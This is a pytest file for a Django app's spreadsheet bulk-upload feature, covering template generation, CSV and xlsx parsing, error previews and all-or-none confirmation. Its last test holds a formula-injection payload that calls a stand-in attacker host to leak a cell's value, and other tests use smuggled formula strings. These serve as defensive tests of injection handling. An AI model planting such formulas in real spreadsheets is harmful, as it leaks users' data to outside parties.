"""Bulk entry from a spreadsheet: the template, reading xlsx and CSV by content, the preview with
every error placed, the all-or-none confirmation, and the upload pages."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from accounts.roles import Role
from reporting import spreadsheet as ss
from reporting.models import ProgressReport, ReportStatus
from reporting.services import (
    InvalidTransitionError,
    report_approve,
    report_create_draft,
    report_submit,
)
from reporting.spreadsheet import checking
from tests.factories import KPIFactory, MinistryFactory, ProgramFactory, UserFactory

pytestmark = pytest.mark.django_db

Q1 = date(2026, 3, 31)
Q2 = date(2026, 6, 30)
COL = {key: openpyxl.utils.get_column_letter(i) for key, i in ss.COLUMN_INDEX.items()}


@pytest.fixture
def world():
    msit = MinistryFactory(code="MSIT")
    moe = MinistryFactory(code="MOE")
    nacc = ProgramFactory(ministry=msit, node__code="NACC", node__path="A/01")
    gpu = KPIFactory(
        program=nacc,
        code="NACC-GPU",
        kind="level",
        unit="GPUs",
        target=10000,
        target_text="over 10,000",
        position=1,
    )
    phd = KPIFactory(program=nacc, code="NACC-PHD", kind="cumulative", position=2)
    fab = ProgramFactory(ministry=msit, node__code="FAB", node__path="A/02")
    chips = KPIFactory(program=fab, code="FAB-NPU", kind="annual", position=1)
    yearly = ProgramFactory(
        ministry=msit, node__code="YEAR", node__path="A/YEAR", frequency="annual"
    )
    KPIFactory(program=yearly, code="YEAR-K")
    edu = ProgramFactory(ministry=moe, node__code="EDU", node__path="A/EDU")
    KPIFactory(program=edu, code="EDU-DEG")
    officer = UserFactory(username="officer-msit", role=Role.OFFICER, ministry=msit)
    officer_moe = UserFactory(username="officer-moe", role=Role.OFFICER, ministry=moe)
    reviewer = UserFactory(username="reviewer", role=Role.REVIEWER)
    return SimpleNamespace(**locals())


def _template(world, period_end=Q1, user=None):
    data = ss.build_template(user=user or world.officer, ministry=world.msit, period_end=period_end)
    return openpyxl.load_workbook(io.BytesIO(data))


def _rows(ws) -> dict[tuple[str, str | None], int]:
    """(programme code, KPI code or None) -> row number."""
    out = {}
    for row in range(ss.FIRST_DATA_ROW, ws.max_row + 1):
        program = ws[f"{COL['program']}{row}"].value
        if program:
            out[(program, ws[f"{COL['kpi']}{row}"].value)] = row
    return out


def _fill(ws, entries: dict[Any, Any]) -> None:
    rows = _rows(ws)
    for key, cells in entries.items():
        for column, value in cells.items():
            ws[f"{COL[column]}{rows[key]}"] = value


def _bytes(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


GOOD = {
    ("NACC", None): {"executed_won": 120_000_000_000, "narrative": "On schedule."},
    ("NACC", "NACC-GPU"): {"value": 1200},
    ("NACC", "NACC-PHD"): {"value": 35},
    ("FAB", None): {"executed_won": 5_000_000_000, "narrative": "Two tape-outs."},
    ("FAB", "FAB-NPU"): {"value": 2.5},
}


def _filled(world, entries=GOOD) -> bytes:
    wb = _template(world)
    _fill(wb[ss.SHEET_TITLE], entries)
    return _bytes(wb)


def _messages(preview) -> list[str]:
    return [str(e) for e in preview.errors]


# The template ------------------------------------------------------------------------------------


def test_template_contents(world):
    approved = report_create_draft(
        user=world.officer,
        program=world.nacc,
        period_end=Q1,
        values={"NACC-GPU": 1200, "NACC-PHD": 35},
        executed_won=100,
    )
    report_submit(user=world.officer, report=approved)
    report_approve(user=world.reviewer, report=approved)

    wb = _template(world, period_end=Q2)
    ws = wb[ss.SHEET_TITLE]
    assert "MSIT" in ws["A1"].value and "2026-06-30" in ws["A1"].value
    keys = [ws.cell(row=ss.KEY_ROW, column=i).value for i in range(1, len(ss.COLUMNS) + 1)]
    assert keys == [key for key, _w in ss.COLUMNS]
    assert ws.row_dimensions[ss.KEY_ROW].hidden
    assert ws.cell(row=3, column=ss.COLUMN_INDEX["value"]).value == "Value (enter)"

    rows = _rows(ws)
    # Only MSIT's programmes with a period ending 2026-06-30: not the annual one, not MOE's.
    assert list(rows) == [
        ("NACC", None),
        ("NACC", "NACC-GPU"),
        ("NACC", "NACC-PHD"),
        ("FAB", None),
        ("FAB", "FAB-NPU"),
    ]

    def cell(key, column):
        return ws[f"{COL[column]}{rows[key]}"]

    assert cell(("NACC", None), "name").value.startswith("Node NACC")
    assert cell(("NACC", None), "period_end").value == "2026-06-30"
    assert "1,000,000,000,000" in cell(("NACC", None), "target").value
    assert cell(("NACC", None), "previous").value == "2026-Q1: 100"
    assert cell(("NACC", "NACC-GPU"), "unit").value == "GPUs"
    assert cell(("NACC", "NACC-GPU"), "kind").value == "Level"
    assert cell(("NACC", "NACC-GPU"), "enter").value == "value at period end"
    assert cell(("NACC", "NACC-PHD"), "enter").value == "amount achieved this period"
    assert cell(("FAB", "FAB-NPU"), "enter").value.startswith("amount achieved this period")
    assert cell(("NACC", "NACC-GPU"), "target").value == (
        "10,000 (over 10,000) by 2026-12-31; expected at this period end: 4,958.9 "
        "(value at period end)"
    )
    assert cell(("NACC", "NACC-GPU"), "previous").value == "2026-Q1: 1,200"
    assert cell(("NACC", "NACC-GPU"), "value").value is None

    # Protected sheet: only the input cells are unlocked.
    assert ws.protection.sheet
    assert not cell(("NACC", "NACC-GPU"), "value").protection.locked
    assert not cell(("NACC", None), "executed_won").protection.locked
    assert not cell(("NACC", None), "narrative").protection.locked
    assert cell(("NACC", "NACC-GPU"), "target").protection.locked
    assert cell(("NACC", None), "value").protection.locked
    assert ws.cell(row=3, column=1).protection.locked

    meta = wb[ss.META_SHEET]
    assert meta.sheet_state == "hidden"
    values = {
        meta.cell(row=r, column=1).value: meta.cell(row=r, column=2).value for r in range(1, 7)
    }
    assert values["format"] == ss.FORMAT_NAME
    assert values["version"] == ss.FORMAT_VERSION
    assert values["ministry"] == "MSIT"
    assert values["period_end"] == "2026-06-30"


def test_template_prefills_an_open_draft(world):
    report_create_draft(
        user=world.officer,
        program=world.nacc,
        period_end=Q1,
        values={"NACC-GPU": 7},
        executed_won=42,
        narrative="Draft so far",
    )
    ws = _template(world)[ss.SHEET_TITLE]
    rows = _rows(ws)
    assert ws[f"{COL['value']}{rows[('NACC', 'NACC-GPU')]}"].value == 7
    assert ws[f"{COL['executed_won']}{rows[('NACC', None)]}"].value == 42
    assert ws[f"{COL['narrative']}{rows[('NACC', None)]}"].value == "Draft so far"
    assert "Draft" in ws[f"{COL['report_status']}{rows[('NACC', None)]}"].value


def test_template_choices(world, monkeypatch):
    assert [m.code for m in ss.template_ministries(user=world.officer)] == ["MSIT"]
    # Only periods that have ended: an upload submits, and an unended period cannot be.
    monkeypatch.setattr(timezone, "localdate", lambda *a, **k: date(2026, 12, 6))
    ends = ss.template_period_ends(user=world.officer, ministry=world.msit)
    assert ends == [Q1, Q2, date(2026, 9, 30)]
    assert ss.default_period_end(ends, today=date(2026, 8, 1)) == Q2
    assert ss.default_period_end(ends, today=date(2025, 8, 1)) == Q1


# Round trip --------------------------------------------------------------------------------------


def test_round_trip(world):
    preview = ss.parse_upload(user=world.officer, file=_filled(world), file_name="q1.xlsx")
    assert preview.errors == []
    assert preview.is_valid
    assert preview.file_format == "xlsx"
    assert [(p.program_code, p.action) for p in preview.reports_to_save] == [
        ("NACC", "create"),
        ("FAB", "create"),
    ]
    assert not ProgressReport.objects.exists()  # the preview saves nothing

    # What the session keeps is enough to confirm.
    kept = ss.UploadPreview.from_data(preview.to_data())
    saved = ss.upload_confirm(user=world.officer, preview=kept)
    assert len(saved) == 2
    nacc = ProgressReport.objects.get(program=world.nacc)
    assert nacc.status == ReportStatus.SUBMITTED
    assert nacc.period_end == Q1
    assert nacc.executed_won == 120_000_000_000
    assert nacc.narrative == "On schedule."
    assert {v.kpi.code: v.value for v in nacc.values.all()} == {
        "NACC-GPU": Decimal("1200"),
        "NACC-PHD": Decimal("35"),
    }
    fab = ProgressReport.objects.get(program=world.fab)
    assert fab.values.get().value == Decimal("2.5")
    assert not ProgressReport.objects.filter(program=world.yearly).exists()


def test_upload_updates_and_submits_an_open_draft(world):
    draft = report_create_draft(
        user=world.officer, program=world.nacc, period_end=Q1, values={"NACC-GPU": 1}
    )
    entries = {k: v for k, v in GOOD.items() if k[0] == "NACC"}
    preview = ss.parse_upload(user=world.officer, file=_filled(world, entries), file_name="a.xlsx")
    assert preview.errors == []
    assert [(p.action, p.report_id) for p in preview.reports_to_save] == [("update", draft.pk)]
    ss.upload_confirm(user=world.officer, preview=preview)
    draft.refresh_from_db()
    assert draft.status == ReportStatus.SUBMITTED
    assert draft.values.get(kpi=world.gpu).value == Decimal("1200")
    assert ProgressReport.objects.count() == 1


def test_a_programme_left_empty_is_skipped(world):
    entries = {k: v for k, v in GOOD.items() if k[0] == "FAB"}
    preview = ss.parse_upload(user=world.officer, file=_filled(world, entries), file_name="a.xlsx")
    assert preview.errors == []
    assert [p.program_code for p in preview.reports_to_save] == ["FAB"]
    assert [p.program_code for p in preview.plans if p.action == "skip"] == ["NACC"]


def test_an_empty_template_has_nothing_to_save(world):
    preview = ss.parse_upload(user=world.officer, file=_filled(world, {}), file_name="a.xlsx")
    assert not preview.is_valid
    assert "nothing to save" in _messages(preview)[0]


# Errors ------------------------------------------------------------------------------------------


def test_preview_with_errors_saves_nothing(world):
    entries = dict(GOOD)
    entries[("NACC", "NACC-GPU")] = {"value": "lots"}
    entries[("NACC", "NACC-PHD")] = {"value": -4}
    entries[("FAB", None)] = {"executed_won": 1.5, "narrative": "x"}
    preview = ss.parse_upload(user=world.officer, file=_filled(world, entries), file_name="q1.xlsx")
    assert not preview.is_valid
    messages = _messages(preview)
    rows = _rows(_template(world)[ss.SHEET_TITLE])
    gpu_row = rows[("NACC", "NACC-GPU")]
    assert any(
        m.startswith(f"q1.xlsx, sheet Report, row {gpu_row}, column {COL['value']} (value): ")
        and "lots" in m
        for m in messages
    ), messages
    assert any(f"row {rows[('NACC', 'NACC-PHD')]}" in m and "negative" in m for m in messages)
    assert any(
        f"row {rows[('FAB', None)]}, column {COL['executed_won']}" in m and "whole" in m
        for m in messages
    )
    assert not ProgressReport.objects.exists()
    with pytest.raises(ss.UploadRejected):
        ss.upload_confirm(user=world.officer, preview=preview)
    assert not ProgressReport.objects.exists()


def test_completeness_is_checked_in_the_preview(world):
    entries = {
        ("NACC", None): {"executed_won": 1, "narrative": "x"},
        ("NACC", "NACC-GPU"): {"value": 3},
    }
    preview = ss.parse_upload(user=world.officer, file=_filled(world, entries), file_name="a.xlsx")
    rows = _rows(_template(world)[ss.SHEET_TITLE])
    assert any(
        e.row == rows[("NACC", "NACC-PHD")] and e.field == "value" and "required" in e.message
        for e in preview.errors
    ), _messages(preview)


def test_programme_outside_the_scope_is_an_error(world):
    csv = b"program,period_end,kpi,value,executed_won,narrative\nEDU,2026-03-31,EDU-DEG,5,,\n"
    preview = ss.parse_upload(user=world.officer, file=csv, file_name="x.csv")
    assert not preview.is_valid
    assert "no programme EDU" in _messages(preview)[0]
    assert "x.csv, row 2, column A (program)" in _messages(preview)[0]


def test_workflow_errors_show_in_the_preview(world):
    submitted = report_create_draft(
        user=world.officer,
        program=world.nacc,
        period_end=Q1,
        values={"NACC-GPU": 1, "NACC-PHD": 1},
        executed_won=1,
    )
    report_submit(user=world.officer, report=submitted)
    preview = ss.parse_upload(user=world.officer, file=_filled(world), file_name="a.xlsx")
    assert not preview.is_valid
    assert any("submitted and awaits review" in m for m in _messages(preview)), _messages(preview)
    assert ProgressReport.objects.count() == 1


def test_confirm_is_all_or_none(world):
    preview = ss.parse_upload(user=world.officer, file=_filled(world), file_name="q1.xlsx")
    assert preview.is_valid
    # Between the preview and the confirmation, FAB's period gets a submitted report elsewhere.
    other = report_create_draft(
        user=world.officer, program=world.fab, period_end=Q1, values={"FAB-NPU": 1}, executed_won=1
    )
    report_submit(user=world.officer, report=other)
    with pytest.raises(ss.UploadRejected) as caught:
        ss.upload_confirm(user=world.officer, preview=preview)
    assert any("awaits review" in str(e) for e in caught.value.preview.errors)
    # NACC, which was fine, was not saved either.
    assert not ProgressReport.objects.filter(program=world.nacc).exists()
    assert ProgressReport.objects.count() == 1


def test_confirm_failure_in_a_later_service_call_rolls_back_earlier_ones(world, monkeypatch):
    preview = ss.parse_upload(user=world.officer, file=_filled(world), file_name="q1.xlsx")
    calls = []
    real_submit = checking.report_submit

    def flaky_submit(**kwargs):
        calls.append(kwargs["report"].program.code)
        if len(calls) == 2:
            raise InvalidTransitionError("refused for the test")
        return real_submit(**kwargs)

    # The preview passed; the failure happens while the confirmation saves.
    assert preview.is_valid
    monkeypatch.setattr(checking, "report_submit", flaky_submit)
    with pytest.raises(ss.UploadRejected) as caught:
        ss.upload_confirm(user=world.officer, preview=preview)
    assert calls == ["NACC", "FAB"]
    assert "refused for the test" in str(caught.value)
    assert not ProgressReport.objects.exists()


def test_formula_cells_are_refused_with_the_cell_reference(world):
    wb = _template(world)
    ws = wb[ss.SHEET_TITLE]
    _fill(ws, GOOD)
    rows = _rows(ws)
    gpu = f"{COL['value']}{rows[('NACC', 'NACC-GPU')]}"
    narrative = f"{COL['narrative']}{rows[('FAB', None)]}"
    ws[gpu] = "=SUM(1,2)"
    ws[narrative] = "@cmd"
    preview = ss.parse_upload(user=world.officer, file=_bytes(wb), file_name="f.xlsx")
    messages = _messages(preview)
    assert any(f"cell {gpu} holds a formula" in m for m in messages), messages
    assert any(f"cell {narrative} holds a formula" in m for m in messages), messages
    assert not preview.is_valid
    # Still refused on confirmation from what the session keeps.
    with pytest.raises(ss.UploadRejected):
        ss.upload_confirm(user=world.officer, preview=ss.UploadPreview.from_data(preview.to_data()))
    assert not ProgressReport.objects.exists()


def test_csv_formula_text_is_refused_but_signed_numbers_are_numbers(world):
    csv = (
        b"program,period_end,kpi,value,executed_won,narrative\n"
        b"NACC,2026-03-31,,,+100,-done\n"
        b"NACC,2026-03-31,NACC-GPU,=1+1,,\n"
        b"NACC,2026-03-31,NACC-PHD,-5,,\n"
    )
    preview = ss.parse_upload(user=world.officer, file=csv, file_name="f.csv")
    by_cell = {(e.row, e.column): e.message for e in preview.errors}
    assert "formula" in by_cell[(2, "F")]  # "-done"
    assert "formula" in by_cell[(3, "D")]  # "=1+1"
    assert "formula" not in by_cell.get((2, "E"), "")  # "+100" is a number
    assert "negative" in by_cell[(4, "D")]  # "-5" is a number, refused as negative


def test_corrupt_workbook(world):
    data = bytearray(_filled(world))
    data[len(data) // 2 : len(data) // 2 + 200] = b"\x00" * 200
    preview = ss.parse_upload(user=world.officer, file=bytes(data), file_name="broken.xlsx")
    assert not preview.is_valid
    message = _messages(preview)[0]
    assert message.startswith("broken.xlsx: ")
    assert "damaged" in message
    assert preview.rows == []


def test_zip_that_is_not_a_workbook(world):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
    preview = ss.parse_upload(user=world.officer, file=out.getvalue(), file_name="a.xlsx")
    assert "not an Excel workbook" in _messages(preview)[0]


def test_png_renamed_xlsx_is_refused(world):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
    preview = ss.parse_upload(user=world.officer, file=png, file_name="report.xlsx")
    assert not preview.is_valid
    message = _messages(preview)[0]
    assert message.startswith("report.xlsx: ")
    assert "PNG image" in message


def test_oversized_file_is_refused(world, settings):
    settings.REPORT_UPLOAD_MAX_BYTES = 1000
    upload = SimpleUploadedFile("big.csv", b"program,period_end,kpi,value\n" + b"x" * 2000)
    preview = ss.parse_upload(user=world.officer, file=upload)
    assert not preview.is_valid
    assert re.search(
        r"big\.csv: the file is 2,\d+ bytes; the limit is 1,000 bytes", _messages(preview)[0]
    )


def test_row_limit(world, settings):
    settings.REPORT_UPLOAD_MAX_ROWS = 3
    preview = ss.parse_upload(user=world.officer, file=_filled(world), file_name="a.xlsx")
    assert any("too many rows" in m for m in _messages(preview))
    assert not preview.is_valid


def test_missing_header_row(world):
    preview = ss.parse_upload(user=world.officer, file=b"a,b,c\n1,2,3\n", file_name="x.csv")
    assert "no header row" in _messages(preview)[0]


def test_old_template_version_is_refused(world):
    wb = _template(world)
    wb[ss.META_SHEET]["B2"] = 99
    preview = ss.parse_upload(user=world.officer, file=_bytes(wb), file_name="old.xlsx")
    assert "format version 99" in _messages(preview)[0]


# CSV ---------------------------------------------------------------------------------------------


def test_csv_variant(world):
    csv = (
        "\ufeffprogram,period_end,kpi,value,executed_won,narrative\n"
        'NACC,2026-03-31,,,"120,000,000,000","On schedule, mostly."\n'
        "NACC,2026-03-31,NACC-GPU,1200,,\n"
        "NACC,2026-03-31,NACC-PHD,35,,\n"
        "\n"
        "FAB,2026-03-31,FAB-NPU,2.5,5000000000,Two tape-outs.\n"
    ).encode()
    preview = ss.parse_upload(user=world.officer, file=csv, file_name="q1.csv")
    assert preview.file_format == "csv"
    assert preview.errors == [], _messages(preview)
    saved = ss.upload_confirm(user=world.officer, preview=preview)
    assert len(saved) == 2
    nacc = ProgressReport.objects.get(program=world.nacc)
    assert nacc.executed_won == 120_000_000_000
    assert nacc.narrative == "On schedule, mostly."
    assert ProgressReport.objects.get(program=world.fab).executed_won == 5_000_000_000


def test_csv_in_cp949_with_semicolons(world):
    csv = (
        "program;period_end;kpi;value;executed_won;narrative\n"
        "FAB;2026-03-31;;;10;정상 진행\n"
        "FAB;2026-03-31;FAB-NPU;3;;\n"
    ).encode("cp949")
    preview = ss.parse_upload(user=world.officer, file=csv, file_name="k.csv")
    assert preview.errors == [], _messages(preview)
    ss.upload_confirm(user=world.officer, preview=preview)
    assert ProgressReport.objects.get().narrative == "정상 진행"


def test_csv_saved_from_the_template(world):
    """A CSV saved from the template (title rows, labels, the key row) reads the same."""
    wb = _template(world)
    ws = wb[ss.SHEET_TITLE]
    _fill(ws, GOOD)
    import csv as csv_module

    out = io.StringIO()
    writer = csv_module.writer(out)
    for row in ws.iter_rows(values_only=True):
        writer.writerow(["" if v is None else v for v in row])
    preview = ss.parse_upload(user=world.officer, file=out.getvalue().encode(), file_name="t.csv")
    assert preview.errors == [], _messages(preview)
    assert len(preview.reports_to_save) == 2


def test_conflicting_programme_values_in_csv(world):
    csv = (
        b"program,period_end,kpi,value,executed_won,narrative\n"
        b"FAB,2026-03-31,FAB-NPU,3,10,\n"
        b"FAB,2026-03-31,FAB-NPU,4,20,\n"
    )
    preview = ss.parse_upload(user=world.officer, file=csv, file_name="c.csv")
    messages = _messages(preview)
    assert any("appears twice" in m and "row 3" in m for m in messages), messages


# Pages -------------------------------------------------------------------------------------------


def _login(client, user):
    client.force_login(user)
    return client


def test_upload_page(client, world, django_assert_num_queries):
    _login(client, world.officer)
    # session, user, roles, ministries in scope, the chosen ministry's programmes
    with django_assert_num_queries(5):
        response = client.get("/reports/upload/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'value="MSIT"' in html
    assert 'value="2026-03-31"' in html
    assert "/reports/upload/template/" in html


def test_upload_page_is_for_officers(client, world):
    _login(client, world.reviewer)
    assert client.get("/reports/upload/").status_code == 403
    client.logout()
    assert client.get("/reports/upload/").status_code == 302


def test_template_download(client, world):
    _login(client, world.officer)
    response = client.get(
        "/reports/upload/template/", {"ministry": "MSIT", "period_end": "2026-03-31"}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "progress-msit-2026-03-31.xlsx" in response["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    assert ("NACC", "NACC-GPU") in _rows(wb[ss.SHEET_TITLE])
    bad = client.get("/reports/upload/template/", {"ministry": "MOE", "period_end": "2026-03-31"})
    assert bad.status_code == 404
    bad_day = client.get(
        "/reports/upload/template/", {"ministry": "MSIT", "period_end": "2026-03-30"}
    )
    assert bad_day.status_code == 404


def test_upload_preview_confirm_pages(client, world):
    _login(client, world.officer)
    upload = SimpleUploadedFile("q1.xlsx", _filled(world))
    response = client.post("/reports/upload/", {"file": upload})
    assert response.status_code == 302
    preview_url = response["Location"]
    page = client.get(preview_url)
    assert page.status_code == 200
    html = page.content.decode()
    assert "NACC-GPU" in html and "FAB-NPU" in html
    assert "Confirm: save and submit all" in html
    assert not ProgressReport.objects.exists()
    done = client.post(preview_url + "confirm/")
    assert done.status_code == 302
    assert done["Location"] == "/reports/"
    assert ProgressReport.objects.filter(status=ReportStatus.SUBMITTED).count() == 2
    # The kept upload is gone: a second confirmation cannot save twice.
    assert client.post(preview_url + "confirm/").status_code == 404
    assert ProgressReport.objects.count() == 2


def test_preview_page_lists_errors_and_offers_no_confirm(client, world):
    _login(client, world.officer)
    entries = dict(GOOD)
    entries[("NACC", "NACC-GPU")] = {"value": "twelve"}
    upload = SimpleUploadedFile("bad.xlsx", _filled(world, entries))
    preview_url = client.post("/reports/upload/", {"file": upload})["Location"]
    page = client.get(preview_url)
    html = page.content.decode()
    assert "twelve" in html
    assert "bad.xlsx, sheet Report, row" in html
    assert "Confirm: save and submit all" not in html
    refused = client.post(preview_url + "confirm/")
    assert refused.status_code == 400
    assert not ProgressReport.objects.exists()


def test_upload_of_another_users_session_token_is_404(client, world):
    _login(client, world.officer)
    assert client.get("/reports/upload/not-a-token/").status_code == 404


def test_ten_programmes_in_one_upload_quickly(world, django_assert_max_num_queries):
    """The goal: a quarter for ten programmes from one spreadsheet in well under a minute."""
    import time

    entries: dict[Any, Any] = {}
    for i in range(10):
        program: Any = ProgramFactory(
            ministry=world.msit, node__code=f"T{i:02d}", node__path=f"B/{i:02d}"
        )
        entries[(program.code, None)] = {"executed_won": 1_000_000 * (i + 1), "narrative": "ok"}
        for k in range(4):
            kpi = KPIFactory(program=program, code=f"T{i:02d}-K{k}", kind="cumulative")
            entries[(program.code, kpi.code)] = {"value": 10 + k}
    started = time.monotonic()
    data = _filled(world, entries)
    with django_assert_max_num_queries(600):
        preview = ss.parse_upload(user=world.officer, file=data, file_name="q1.xlsx")
    assert preview.errors == [], _messages(preview)
    assert len(preview.reports_to_save) == 10
    saved = ss.upload_confirm(user=world.officer, preview=preview)
    elapsed = time.monotonic() - started
    assert len(saved) == 10
    assert ProgressReport.objects.filter(status=ReportStatus.SUBMITTED).count() == 10
    assert elapsed < 20, elapsed


def test_template_writes_a_formula_narrative_as_text(world):
    evil = '=HYPERLINK("http://evil.example/?leak="&J5,"Click")'
    report_create_draft(
        user=world.officer,
        program=world.nacc,
        period_end=Q1,
        values={"NACC-GPU": 7},
        executed_won=42,
        narrative=evil,
    )
    ws = _template(world)[ss.SHEET_TITLE]
    cell = ws[f"{COL['narrative']}{_rows(ws)[('NACC', None)]}"]
    assert cell.data_type == "s"  # text, not a formula
    assert cell.value == evil
    assert cell.quotePrefix
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate
